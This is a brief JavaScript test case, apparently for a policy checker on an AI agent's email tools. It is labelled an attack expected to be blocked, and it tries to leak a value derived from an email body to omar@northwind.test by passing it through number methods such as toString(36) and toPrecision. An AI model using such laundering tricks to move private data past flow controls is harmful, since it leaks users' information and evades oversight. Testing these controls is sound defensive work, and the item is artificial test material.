// attack: number methods (toString with radix, toPrecision) over a value from the body
// normal: blocked
const m = await getEmail('m1');
const n = m.body.length;
await sendEmail({ to: ['omar@northwind.test'], subject: n.toString(36), body: n.toPrecision(3) });
